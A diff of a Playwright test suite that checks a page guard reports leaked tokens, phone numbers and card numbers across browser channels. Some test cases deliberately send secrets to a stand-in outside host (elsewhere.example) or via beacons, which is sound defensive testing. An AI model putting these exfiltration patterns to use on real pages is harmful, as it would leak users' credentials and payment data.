@@ -1,4 +1,4 @@
-/** The watch over every journey sees a token or a number that leaves; here it is shown each way of leaving. */
+/** The page guard of every journey reports leaked tokens and numbers; here each channel leaks one. */
 import type { Page } from '@playwright/test';
 import { expect, test } from '../src/fixtures.ts';
 
@@ -6,20 +6,20 @@ type LeakCase = { channel: string; leak(page: Page, secret: string): Promise<unk
 
 const leaks: readonly LeakCase[] = [
   {
-    channel: 'a line of the console',
-    leak: (page, secret) => page.evaluate((text) => console.info(`it is ${text}`), secret),
-    violation: /left: console info/,
+    channel: 'a console message',
+    leak: (page, secret) => page.evaluate((text) => console.info(`value: ${text}`), secret),
+    violation: /leaked \w+: console info/,
   },
   {
     channel: 'local storage',
     leak: (page, secret) => page.evaluate((text) => localStorage.setItem('kept', text), secret),
-    violation: /left: local storage kept/,
+    violation: /leaked \w+: local storage kept/,
   },
   {
-    channel: 'a second place of session storage',
+    channel: 'a second session storage key',
     leak: (page, secret) =>
       page.evaluate((text) => sessionStorage.setItem('kept', JSON.stringify({ a: { b: text } })), secret),
-    violation: /left: session storage kept/,
+    violation: /leaked \w+: session storage kept/,
   },
   {
     channel: 'a cookie',
@@ -27,55 +27,55 @@ const leaks: readonly LeakCase[] = [
       page.evaluate((text) => {
         document.cookie = `kept=${text}`;
       }, secret),
-    violation: /left: cookie/,
+    violation: /leaked \w+: cookie/,
   },
   {
-    channel: 'the name of the window',
+    channel: 'window.name',
     leak: (page, secret) =>
       page.evaluate((text) => {
         window.name = text;
       }, secret),
-    violation: /left: window name/,
+    violation: /leaked \w+: window name/,
   },
   {
-    channel: 'the title of the page',
+    channel: 'the document title',
     leak: (page, secret) =>
       page.evaluate((text) => {
         document.title = `Order ${text}`;
       }, secret),
-    violation: /left: title/,
+    violation: /leaked \w+: title/,
   },
   {
-    channel: 'the state of the history',
+    channel: 'the history state',
     leak: (page, secret) => page.evaluate((text) => history.replaceState({ key: [text] }, ''), secret),
-    violation: /left: history state/,
+    violation: /leaked \w+: history state/,
   },
   {
-    channel: 'the name of a database',
+    channel: 'the name of an IndexedDB database',
     leak: (page, secret) => page.evaluate((text) => void indexedDB.open(text), secret),
-    violation: /left: database/,
+    violation: /leaked \w+: database/,
   },
   {
-    channel: 'a request to another origin, which the policy refuses',
+    channel: 'a request to another origin, which the policy blocks',
     leak: (page, secret) =>
       page.evaluate((text) => void fetch(`https://elsewhere.example/?t=${text}`).catch(() => undefined), secret),
-    violation: /left: console error/,
+    violation: /leaked \w+: console error/,
   },
   {
-    channel: 'the address of a page of another origin',
+    channel: 'the URL of a page of another origin',
     leak: (page, secret) => page.evaluate((text) => void window.open(`https://elsewhere.example/?t=${text}`), secret),
-    violation: /left: another origin: https:\/\/elsewhere\.example/,
+    violation: /leaked \w+: another origin: https:\/\/elsewhere\.example/,
   },
   {
-    channel: 'a request to our own origin that is none of the lender’s',
+    channel: 'a request to the own origin outside the API',
     leak: (page, secret) =>
       page.evaluate((text) => void fetch(`/shell/nowhere?${encodeURIComponent(text)}`).catch(() => undefined), secret),
-    violation: /left: request \/shell\/nowhere/,
+    violation: /leaked \w+: request \/shell\/nowhere/,
   },
   {
     channel: 'a report',
     leak: (page, secret) => page.evaluate((text) => navigator.sendBeacon('/reports', `{"m":"${text}"}`), secret),
-    violation: /left: body of \/reports/,
+    violation: /leaked \w+: body of \/reports/,
   },
   {
     channel: 'a referrer',
@@ -88,19 +88,15 @@ const leaks: readonly LeakCase[] = [
           }).catch(() => undefined),
         secret,
       ),
-    violation: /left: referrer at \/shell\/anywhere/,
+    violation: /leaked \w+: referrer at \/shell\/anywhere/,
   },
 ];
 
-/** Cards are known to the watch from the beginning. */
+/** The guard knows the sandbox's card numbers from the beginning. */
 const CARD = '4005519200000004';
 
 for (const { channel, leak, violation } of leaks) {
-  test(`the watch notices a token, a telephone and a card number in ${channel}`, async ({
-    borrower,
-    page,
-    pageGuard,
-  }) => {
+  test(`reports a token, a telephone number and a card number in ${channel}`, async ({ borrower, page, pageGuard }) => {
     const { phone } = await borrower.opensScenario('forget');
     await borrower.types(phone, 'Phone number');
     await borrower.taps('Send Verification Code');
@@ -112,8 +108,8 @@ for (const { channel, leak, violation } of leaks) {
       pageGuard.violations().filter((one) => violation.test(one) && one.startsWith(secretKind));
 
     for (const [secretKind, secret] of [
-      ['a token', token],
-      ['a number', phone],
+      ['leaked token', token],
+      ['leaked number', phone],
     ] as const) {
       await leak(page, secret);
       await expect
@@ -122,28 +118,30 @@ for (const { channel, leak, violation } of leaks) {
     }
     pageGuard.reset();
     await leak(page, CARD);
-    await expect.poll(() => violationsOf('a number')().length, { message: `a card in ${channel}` }).toBeGreaterThan(0);
+    await expect
+      .poll(() => violationsOf('leaked number')().length, { message: `a card in ${channel}` })
+      .toBeGreaterThan(0);
     pageGuard.allow(/./);
   });
 }
 
-test('the watch notices a number that a navigation writes into the address', async ({ borrower, page, pageGuard }) => {
+test('reports a number that a navigation writes into the URL', async ({ borrower, page, pageGuard }) => {
   await borrower.opensScenario('due-rollover');
   await borrower.seesButton('Rollover Repayment');
   await page.evaluate((card) => history.replaceState(null, '', `/order?card=${card}`), CARD);
-  await expect.poll(() => pageGuard.violations()).toContain('a number left: page address in history');
+  await expect.poll(() => pageGuard.violations()).toContain('leaked number: page URL in history');
   pageGuard.allow(/./);
 });
 
-test('the watch is over every window of the phone', async ({ borrower, context, page, pageGuard }) => {
+test('guards every page of the browser context', async ({ borrower, context, page, pageGuard }) => {
   await borrower.opensUrl('/nowhere');
   await borrower.seesHeading('There is no page at this address');
   const second = await context.newPage();
   await second.goto('/nowhere');
   await second.evaluate((card) => localStorage.setItem('kept', card), CARD);
-  await second.evaluate(() => setTimeout(() => Promise.reject(new Error('in the second window'))));
-  await expect.poll(() => pageGuard.violations()).toContain('a number left: local storage kept');
-  await expect.poll(() => pageGuard.violations().join()).toContain('uncaught: in the second window');
+  await second.evaluate(() => setTimeout(() => Promise.reject(new Error('in the second page'))));
+  await expect.poll(() => pageGuard.violations()).toContain('leaked number: local storage kept');
+  await expect.poll(() => pageGuard.violations().join()).toContain('uncaught: in the second page');
   expect(page.url()).toContain('/nowhere');
   pageGuard.allow(/./);
 });
